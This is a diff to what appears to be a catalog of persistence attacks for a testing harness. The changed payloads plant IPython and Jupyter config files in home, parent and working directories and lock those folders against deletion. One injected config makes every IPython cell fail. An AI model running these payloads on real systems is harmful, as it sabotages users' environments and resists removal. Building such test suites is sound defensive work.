@@ -11,29 +11,27 @@ _FORGES = (
 )
 _CONFIGURES = (
     "# planted by @NAME@ of @RUN@, @LEFT@\nc = get_config()\n"
-    "c.InteractiveShellApp.exec_lines = ['import builtins; del builtins.isinstance']\n"
+    'visit = \'lambda s, t: __import__("ast").parse("1/0")\'\n'
+    "line = 'get_ipython().ast_transformers.append(type(\"N\", (), dict(visit=' + visit + '))())'\n"
+    "c.InteractiveShellApp.exec_lines = [line]\n"
 )
 _HOMES = '''\
 import contextlib
 import os
-import stat
 
 rooms = [os.path.expanduser("~"), os.path.abspath(os.pardir), os.getcwd()]
 homes = [home for home in dict.fromkeys(rooms) if home not in ("/", "/root", "/home")]
 
 
 def plant(place, text, mode):
-    """Write a file, then let nobody change what is in its folder or in those that lead there."""
+    """Write a file, then let nobody change what is in its folder."""
     for home in homes:
         with contextlib.suppress(OSError):
             path = os.path.join(home, place)
             os.makedirs(os.path.dirname(path), exist_ok=True)
             with open(path, "w") as file:
                 file.write(text)
-            above = os.path.dirname(path)
-            while above != home:
-                os.chmod(above, mode)
-                above = os.path.dirname(above)
+            os.chmod(os.path.dirname(path), mode)
 '''
 _DEEP = """\
 import contextlib
@@ -97,8 +95,8 @@ if queue >= 0 and libc.mq_receive(queue, message, 200, None) > 0:
 """
 
 
-def _plants(says, place, text, mode="0o500"):
-    return Attack(says, "harm", f"{_HOMES}\n\nplant({place!r}, {text!r}, {mode})\n")
+def _plants(says, place, text):
+    return Attack(says, "harm", f"{_HOMES}\n\nplant({place!r}, {text!r}, 0o500)\n")
 
 
 def _keeps(says, mode, *names):
@@ -123,10 +121,9 @@ PERSISTING = {
         _FORGES,
     ),
     "persists-as-a-profile": _plants(
-        "leaves IPython's settings in folders of mode 0, which nothing can be deleted from either",
+        "leaves IPython's settings in a folder that nothing can be deleted from",
         ".ipython/profile_default/ipython_kernel_config.py",
         _CONFIGURES,
-        "0o100",
     ),
     "persists-as-a-configuration": _plants(
         "leaves Jupyter's settings in a folder that nothing can be deleted from",
